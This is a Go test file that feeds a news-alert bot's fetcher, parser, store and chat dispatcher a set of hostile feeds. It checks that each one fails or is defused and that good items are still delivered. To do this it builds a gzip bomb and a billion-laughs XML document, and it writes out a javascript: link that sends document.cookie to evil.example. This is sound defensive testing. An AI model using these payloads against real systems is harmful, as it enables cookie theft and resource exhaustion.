package feeds

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"runtime/metrics"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"golang.org/x/text/encoding/charmap"

	"github.com/feedwatch/feedwatch/internal/alerts"
	"github.com/feedwatch/feedwatch/internal/chat"
	"github.com/feedwatch/feedwatch/internal/news"
	"github.com/feedwatch/feedwatch/internal/store/sqlite"
)

// TestHostileFeedsInOnePoll polls, in one PollAll, every kind of hostile
// feed the issue names alongside good feeds, through the real fetcher,
// parser, SQLite store, router and dispatcher: each hostile feed fails (or
// is defused) on its own, with the error and backoff it deserves, and every
// good item is still delivered, rendered for Slack and Discord, exactly once.
//
// Memory is measured in a fresh process (this test re-runs itself), so that
// other tests' garbage does not count: the peak of live heap (sampled) and
// everything the Go runtime took from the system (which only grows, hence
// bounds the peak) must stay under hostileMemoryLimit.
func TestHostileFeedsInOnePoll(t *testing.T) {
	if os.Getenv(hostileChildEnv) != "" {
		mem := startMemSampler()
		runHostilePoll(t)
		heap, sys := mem.stop()
		hwm, _ := hostileVmHWM()
		// Read by the parent from the child's output.
		fmt.Printf("hostile-memory heap=%d sys=%d hwm=%d\n", heap, sys, hwm)
		return
	}
	if testing.Short() {
		t.Skip("re-runs the test binary and polls for several seconds")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], "-test.run=^TestHostileFeedsInOnePoll$", "-test.v", "-test.timeout=5m")
	cmd.Env = append(os.Environ(), hostileChildEnv+"=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("hostile poll (child process): %v\n%s", err, out)
	}
	m := regexp.MustCompile(`hostile-memory heap=(\d+) sys=(\d+) hwm=(\d+)`).FindSubmatch(out)
	if m == nil {
		t.Fatalf("the child did not report its memory:\n%s", out)
	}
	heap, _ := strconv.ParseInt(string(m[1]), 10, 64)
	sys, _ := strconv.ParseInt(string(m[2]), 10, 64)
	hwm, _ := strconv.ParseInt(string(m[3]), 10, 64)
	t.Logf("peak live heap %d MiB, Go runtime total %d MiB, peak RSS %d MiB (race detector: %v)",
		heap>>20, sys>>20, hwm>>20, raceDetector)
	if heap >= hostileMemoryLimit || sys >= hostileMemoryLimit {
		t.Errorf("memory: peak live heap %d MiB, runtime total %d MiB; want both under %d MiB",
			heap>>20, sys>>20, hostileMemoryLimit>>20)
	}
	// The race detector's shadow memory multiplies the resident size; it is
	// the detector's, not the bot's, so RSS is judged without it only.
	if !raceDetector && hwm >= hostileMemoryLimit {
		t.Errorf("memory: peak RSS %d MiB, want under %d MiB", hwm>>20, hostileMemoryLimit>>20)
	}
}

const (
	hostileChildEnv    = "FEEDWATCH_HOSTILE_CHILD"
	hostileMemoryLimit = 300 << 20
	// hostileTimeout is the fetch timeout of the test: the stalled feed
	// costs this much, and the others must each be fetched within it on a
	// loaded machine.
	hostileTimeout = 4 * time.Second
	// hostileItems is how many items the oversized feed carries.
	hostileItems = 100_000
)

// hostileNow is the clock of the poll: Retry-After dates and future
// publication dates are judged against it.
var hostileNow = time.Date(2025, 9, 1, 12, 0, 0, 0, time.UTC)

// goodItem is an item that must reach chat: its link as it goes out, and
// text its rendered title must show ("" when the title is checked apart).
type goodItem struct {
	feed, link, title string
}

// hostileFeed is one feed of the poll and what must become of it.
type hostileFeed struct {
	name    string
	handler http.HandlerFunc
	// wantErr is a fragment of the failed poll's recorded error; "" = the
	// poll succeeds.
	wantErr string
	// wantRetry, when set, is when the feed may be polled again (its
	// Retry-After), instead of the first backoff step.
	wantRetry time.Time
	// stored is how many items the poll stores (-1: not checked).
	stored int
	// good are the items of this feed that must be delivered.
	good []goodItem
}

// rssOf is an RSS 2.0 document of items (already XML).
func rssOf(items ...string) string {
	return `<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title><link>https://feeds.example/</link>` +
		strings.Join(items, "") + `</channel></rss>`
}

// rssEntry is one RSS item; title and link are raw XML.
func rssEntry(guid, title, link string, pub time.Time) string {
	return fmt.Sprintf(`<item><guid>%s</guid><title>%s</title><link>%s</link><pubDate>%s</pubDate></item>`,
		guid, title, link, pub.Format(time.RFC1123Z))
}

// serve answers with doc as contentType.
func serve(contentType, doc string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", contentType)
		_, _ = w.Write([]byte(doc))
	}
}

// gzipBomb is about 1 MiB of gzip that inflates to 1 GiB of zeros: 1024
// gzip members of 1 MiB each, which the transport's multistream reader
// inflates one after the other.
func gzipBomb(t *testing.T) []byte {
	t.Helper()
	var member bytes.Buffer
	zw, err := gzip.NewWriterLevel(&member, gzip.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := zw.Write(make([]byte, 1<<20)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return bytes.Repeat(member.Bytes(), 1024)
}

// bigFeed is an RSS document of n items, small enough together to pass the
// default body cap: the newest (dated, an hour ahead) is about a ceasefire,
// the rest are undated filler.
func bigFeed(n int) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><rss version="2.0"><channel><title>big</title>`)
	b.WriteString(rssEntry("big-0", "Ceasefire declared in the flood", "https://big.example/0", hostileNow.Add(time.Hour)))
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, `<item><guid>b%d</guid><title>filler %d</title></item>`, i, i)
	}
	b.WriteString(`</channel></rss>`)
	return b.String()
}

// billionLaughs is a feed whose entities would expand to gigabytes.
func billionLaughs() string {
	var dtd strings.Builder
	dtd.WriteString(`<!ENTITY lol0 "lol">`)
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&dtd, `<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	return `<?xml version="1.0"?><!DOCTYPE rss [` + dtd.String() + `]><rss version="2.0"><channel><title>&lol9;</title>` +
		rssEntry("laughs-1", "Ceasefire &lol9; laughs", "https://laughs.example/1", hostileNow.Add(-time.Hour)) + `</channel></rss>`
}

// hostileFeeds are the feeds of the poll. privateURL is where the
// public-to-private redirect points.
func hostileFeeds(t *testing.T, privateURL string) []hostileFeed {
	hourAgo := hostileNow.Add(-time.Hour)
	bomb := gzipBomb(t)
	big := bigFeed(hostileItems)
	cp1251, err := charmap.Windows1251.NewEncoder().String(`<?xml version="1.0" encoding="windows-1251"?><rss version="2.0"><channel><title>Новини</title>` +
		rssEntry("uk-1", "Перемир'я: ceasefire у Києві", "https://kyiv.example/1", hourAgo) + `</channel></rss>`)
	if err != nil {
		t.Fatal(err)
	}
	retryDate := hostileNow.Add(2 * time.Hour)
	return []hostileFeed{
		{name: "good-rss", handler: serve("application/rss+xml; charset=utf-8", rssOf(
			rssEntry("g1", "Ceasefire talks open in Geneva", "https://good.example/geneva?utm_source=rss", hourAgo),
			rssEntry("g2", "Ceasefire holds overnight", "https://good.example/overnight", hourAgo))),
			stored: 2, good: []goodItem{
				{"good-rss", "https://good.example/geneva", "Ceasefire talks open in Geneva"},
				{"good-rss", "https://good.example/overnight", "Ceasefire holds overnight"}}},
		{name: "good-atom", handler: serve("application/atom+xml", `<feed xmlns="http://www.w3.org/2005/Atom"><title>a</title>`+
			`<entry><id>urn:a1</id><title>Ceasefire monitors arrive</title><link href="https://atom.example/monitors"/><updated>2025-09-01T10:00:00Z</updated></entry></feed>`),
			stored: 1, good: []goodItem{{"good-atom", "https://atom.example/monitors", "Ceasefire monitors arrive"}}},
		{name: "stalled", wantErr: "timed out", stored: 0, handler: func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/rss+xml")
			w.WriteHeader(http.StatusOK)
			w.(http.Flusher).Flush()
			<-r.Context().Done() // headers, then nothing, until the client gives up
		}},
		{name: "fifty-megabytes", wantErr: ErrTooLarge.Error(), stored: 0, handler: func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/rss+xml")
			chunk := bytes.Repeat([]byte("<!-- padding padding padding -->\n"), 2048)
			for sent := 0; sent < 50<<20; sent += len(chunk) {
				if _, err := w.Write(chunk); err != nil {
					return // the client stopped reading at the cap
				}
			}
		}},
		{name: "gzip-bomb", wantErr: ErrTooLarge.Error(), stored: 0, handler: func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/rss+xml")
			w.Header().Set("Content-Encoding", "gzip")
			_, _ = w.Write(bomb)
		}},
		{name: "broken-xml", wantErr: "parse feed: invalid XML feed", stored: 0,
			handler: serve("application/rss+xml", `<?xml version="1.0"?><rss version="2.0"><channel><item><title>Ceasefire</title></chan`)},
		{name: "html-page", wantErr: "it looks like an HTML page", stored: 0,
			handler: serve("text/html", "<!DOCTYPE html><html><head><title>Ceasefire</title></head><body><p>We moved.</p></body></html>")},
		{name: "server-error", wantErr: "unexpected HTTP status 500", stored: 0, handler: func(w http.ResponseWriter, _ *http.Request) {
			http.Error(w, "boom", http.StatusInternalServerError)
		}},
		{name: "redirect-loop", wantErr: ErrRedirectLoop.Error(), stored: 0, handler: func(w http.ResponseWriter, r *http.Request) {
			next := "/redirect-loop?hop=b"
			if r.URL.Query().Get("hop") == "b" {
				next = "/redirect-loop?hop=a"
			}
			http.Redirect(w, r, next, http.StatusFound)
		}},
		{name: "redirect-to-private", wantErr: ErrPrivateAddress.Error(), stored: 0, handler: func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, privateURL, http.StatusMovedPermanently)
		}},
		{name: "billion-laughs", handler: serve("application/rss+xml", billionLaughs()),
			stored: 1, good: []goodItem{{"billion-laughs", "https://laughs.example/1", "Ceasefire &lol9; laughs"}}},
		{name: "windows-1251", handler: serve("application/rss+xml", cp1251), // no charset in the header
			stored: 1, good: []goodItem{{"windows-1251", "https://kyiv.example/1", "Перемир'я: ceasefire у Києві"}}},
		{name: "bad-bytes", handler: serve("application/rss+xml; charset=utf-8", rssOf(
			rssEntry("bad-1", "Cease\xff\xfefire &#x1b;[31mtalks\x7f\u202e resume", "https://bytes.example/1", hourAgo),
			rssEntry("bad-2", "Ceasefire\tdeal\u0000 &#1;signed", "https://bytes.example/2", hourAgo))),
			stored: 2, good: []goodItem{{"bad-bytes", "https://bytes.example/1", ""}, {"bad-bytes", "https://bytes.example/2", ""}}},
		{name: "script-link", handler: serve("application/rss+xml", rssOf(
			rssEntry("js-1", "Ceasefire: click for the text", "javascript:alert(document.cookie)", hourAgo),
			rssEntry("js-2", "Ceasefire map", " JaVaScRiPt:fetch('//evil.example/'+document.cookie)", hourAgo))),
			stored: 2, good: []goodItem{{"script-link", "", "Ceasefire: click for the text"}, {"script-link", "", "Ceasefire map"}}},
		{name: "hundred-thousand-items", handler: serve("application/rss+xml", big),
			stored: MaxItemsPerFeed, good: []goodItem{{"hundred-thousand-items", "https://big.example/0", "Ceasefire declared in the flood"}}},
		{name: "odd-dates", handler: serve("application/rss+xml", rssOf(
			`<item><guid>d1</guid><title>Ceasefire from the future</title><link>https://dates.example/future</link><pubDate>Fri, 01 Jan 2100 00:00:00 GMT</pubDate></item>`,
			`<item><guid>d2</guid><title>Ceasefire someday</title><link>https://dates.example/someday</link><pubDate>someday soon</pubDate></item>`)),
			stored: 2, good: []goodItem{
				{"odd-dates", "https://dates.example/future", "Ceasefire from the future"},
				{"odd-dates", "https://dates.example/someday", "Ceasefire someday"}}},
		{name: "rate-limited", wantErr: "429", wantRetry: hostileNow.Add(time.Hour), stored: 0, handler: func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Retry-After", "3600")
			http.Error(w, "slow down", http.StatusTooManyRequests)
		}},
		{name: "unavailable", wantErr: "503", wantRetry: retryDate, stored: 0, handler: func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Retry-After", retryDate.Format(http.TimeFormat))
			http.Error(w, "maintenance", http.StatusServiceUnavailable)
		}},
	}
}

// renderedChannel records what a channel's notifier was given, rendered
// for its platform as JSON.
type renderedChannel struct {
	render func(news.Message) any
	mu     sync.Mutex
	out    []string
}

func (c *renderedChannel) Send(_ context.Context, m news.OutboxMessage) error {
	b, err := json.Marshal(c.render(m.Message))
	if err != nil {
		return err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.out = append(c.out, string(b))
	return nil
}

func (c *renderedChannel) all() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return strings.Join(c.out, "\n")
}

func runHostilePoll(t *testing.T) {
	ctx := t.Context()
	// The private side: a server that must never be reached.
	var privateHits atomic.Int32
	private := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		privateHits.Add(1)
		fmt.Fprint(w, rssOf(rssEntry("p1", "Ceasefire secrets", "https://internal.example/", hostileNow)))
	}))
	if l, err := net.Listen("tcp", "127.0.0.2:0"); err == nil {
		private.Listener.Close()
		private.Listener = l
	} else {
		t.Logf("no listener on 127.0.0.2 (%v); the redirect is still refused before connecting", err)
	}
	private.Start()
	defer private.Close()

	list := hostileFeeds(t, private.URL+"/internal/feed.xml")
	mux := http.NewServeMux()
	for _, f := range list {
		mux.Handle("/"+f.name, f.handler)
	}
	srv := httptest.NewServer(mux)
	defer srv.Close()

	st, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "hostile.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	var fs []news.Feed
	for _, f := range list {
		fs = append(fs, news.Feed{Name: f.name, URL: srv.URL + "/" + f.name, Source: news.SourceConfig})
	}
	if err := st.SyncFeeds(ctx, fs); err != nil {
		t.Fatal(err)
	}
	// 127.0.0.1 stands for the public internet, any other address for a
	// private one: the test address policy of fetch_test.go.
	public := netip.MustParseAddr("127.0.0.1")
	clock := func() time.Time { return hostileNow }
	fetcher := newFetcher(FetchOptions{Timeout: hostileTimeout, Now: clock}, func(a netip.Addr) bool { return a == public })
	defer fetcher.Close()
	poller := NewPoller(PollerOptions{Store: st, Fetcher: fetcher, Now: clock, Concurrency: len(list)})

	start := time.Now()
	results, pollErr := poller.PollAll(ctx, fs)
	t.Logf("one poll of %d feeds took %v", len(fs), time.Since(start))
	if pollErr == nil {
		t.Error("PollAll reported no error with hostile feeds in the poll")
	}

	for i, f := range list {
		t.Run(f.name, func(t *testing.T) {
			state, err := st.FeedState(ctx, f.name)
			if err != nil {
				t.Fatal(err)
			}
			res := results[i]
			if f.wantErr == "" {
				if state.Failures != 0 || state.LastErrorMsg != "" {
					t.Errorf("failed: %d failures, %q", state.Failures, state.LastErrorMsg)
				}
				if !state.LastSuccess.Equal(hostileNow) {
					t.Errorf("last success %v, want the poll's time", state.LastSuccess)
				}
			} else {
				if state.Failures != 1 || !strings.Contains(state.LastErrorMsg, f.wantErr) {
					t.Errorf("state: %d failures, error %q; want 1 failure naming %q", state.Failures, state.LastErrorMsg, f.wantErr)
				}
				wantNext := hostileNow.Add(Backoff(1))
				if !f.wantRetry.IsZero() {
					wantNext = f.wantRetry
				}
				if !state.NextPoll.Equal(wantNext) {
					t.Errorf("next poll %v, want %v", state.NextPoll, wantNext)
				}
				if !strings.Contains(pollErr.Error(), "poll "+f.name+": ") {
					t.Errorf("PollAll's error does not name %s", f.name)
				}
			}
			if res.New != f.stored {
				t.Errorf("%d items stored, want %d", res.New, f.stored)
			}
		})
	}
	if n := privateHits.Load(); n != 0 {
		t.Errorf("the private address was reached %d times", n)
	}
	checkStoredText(t, st)

	// Route and deliver: every good item once to each platform.
	rules, err := alerts.NewRules(
		[]news.Topic{{Name: "ceasefire", Query: "ceasefire", Source: news.SourceConfig}},
		[]news.Subscription{{Channel: "slack", Mode: news.ModeInstant}, {Channel: "discord", Mode: news.ModeInstant}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	renderer := chat.Renderer{Loc: time.UTC, Now: clock}
	platforms := map[string]chat.Platform{"slack": chat.PlatformSlack, "discord": chat.PlatformDiscord}
	router := alerts.NewRouter(alerts.RouterOptions{Store: st, Rules: rules, Now: clock,
		Split: func(ch string, m news.Message) []news.Message { return chat.Split(platforms[ch], m) }})
	if _, err := router.RouteNew(ctx); err != nil {
		t.Fatalf("route: %v", err)
	}
	channels := map[string]*renderedChannel{
		"slack":   {render: func(m news.Message) any { return renderer.Slack(m) }},
		"discord": {render: func(m news.Message) any { return renderer.Discord(m) }},
	}
	d := chat.NewDispatcher(chat.DispatcherOptions{Outbox: st, Now: clock,
		Notifiers: map[string]chat.Notifier{"slack": channels["slack"], "discord": channels["discord"]}})
	if err := d.Drain(ctx, time.Minute); err != nil {
		t.Fatalf("drain: %v", err)
	}
	for name, ch := range channels {
		t.Run("delivered to "+name, func(t *testing.T) {
			out := ch.all()
			for _, f := range list {
				for _, g := range f.good {
					if g.link != "" && strings.Count(out, g.link) != 1 {
						t.Errorf("%s (%s) is in %d messages, want 1", g.link, f.name, strings.Count(out, g.link))
					}
					if g.title != "" && !strings.Contains(readableJSON(out), g.title) {
						t.Errorf("%q (%s) was not delivered", g.title, f.name)
					}
					// An item whose link was unsafe is shown, not linked.
					if g.link == "" && (strings.Contains(out, "|"+g.title+`\u003e`) || strings.Contains(out, "["+g.title+"](")) {
						t.Errorf("%q (%s) is shown as a link", g.title, f.name)
					}
				}
			}
			for _, bad := range []string{"javascript:", "evil.example", "internal.example", "filler", "lollol", "\\u001b", "\\u0000", "\\u202e"} {
				if i := strings.Index(strings.ToLower(out), bad); i >= 0 {
					t.Errorf("the messages carry %q: …%s…", bad, out[max(0, i-200):min(len(out), i+100)])
				}
			}
		})
	}
}

// readableJSON undoes what stands between a JSON payload and the text a
// reader sees: JSON's escapes of markup characters and the platforms'
// own (Slack's entities, Discord's backslashes).
func readableJSON(s string) string {
	s = strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(s)
	s = strings.NewReplacer("&amp;", "&", "&lt;", "<", "&gt;", ">").Replace(s)
	return strings.ReplaceAll(s, `\\`, "")
}

// checkStoredText checks that every stored item's text is valid UTF-8
// without control or bidi-override characters, and that the odd dates were
// replaced by the time the items were first seen.
func checkStoredText(t *testing.T, st interface {
	FeedStates(ctx context.Context) ([]news.FeedState, error)
	UnroutedItems(ctx context.Context, limit int) ([]news.Item, error)
}) {
	t.Helper()
	items, err := st.UnroutedItems(t.Context(), 2*MaxItemsPerFeed)
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, it := range items {
		for _, s := range []string{it.Title, it.Summary, it.Link} {
			if !utf8.ValidString(s) {
				t.Errorf("item %s/%s: invalid UTF-8 %q", it.Feed, it.GUID, s)
			}
			for _, r := range s {
				if unicode.IsControl(r) || r == '\u202e' {
					t.Errorf("item %s/%s: control character %U in %q", it.Feed, it.GUID, r, s)
				}
			}
		}
		switch it.Feed {
		case "script-link":
			if it.Link != "" {
				t.Errorf("item %s kept the link %q", it.GUID, it.Link)
			}
		case "odd-dates":
			seen++
			if !it.Published.Equal(hostileNow) {
				t.Errorf("item %s published %v, want the time first seen (%v)", it.GUID, it.Published, hostileNow)
			}
		case "bad-bytes":
			if !strings.Contains(it.Title, "talks") && !strings.Contains(it.Title, "signed") {
				t.Errorf("item %s lost its text: %q", it.GUID, it.Title)
			}
		}
	}
	if seen != 2 {
		t.Errorf("%d items of odd-dates stored, want 2", seen)
	}
}

// memSampler records the peak of the live heap while a test runs.
type memSampler struct {
	stopc chan struct{}
	done  chan struct{}
	peak  atomic.Uint64
}

// startMemSampler samples the heap's live objects every millisecond
// (runtime/metrics, which does not stop the world).
func startMemSampler() *memSampler {
	s := &memSampler{stopc: make(chan struct{}), done: make(chan struct{})}
	sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
	go func() {
		defer close(s.done)
		tick := time.NewTicker(time.Millisecond)
		defer tick.Stop()
		for {
			metrics.Read(sample)
			if v := sample[0].Value.Uint64(); v > s.peak.Load() {
				s.peak.Store(v)
			}
			select {
			case <-s.stopc:
				return
			case <-tick.C:
			}
		}
	}()
	return s
}

// stop ends sampling and returns the peak live heap and the memory the Go
// runtime obtained from the system in all (which never shrinks, so it
// bounds the peak of everything the runtime held).
func (s *memSampler) stop() (heap, sys uint64) {
	close(s.stopc)
	<-s.done
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return max(s.peak.Load(), ms.HeapAlloc), ms.Sys
}

// hostileVmHWM is this process's peak resident set (Linux), 0 elsewhere.
func hostileVmHWM() (int64, bool) {
	raw, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return 0, false
	}
	for _, line := range strings.Split(string(raw), "\n") {
		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return kb << 10, err == nil
		}
	}
	return 0, false
}
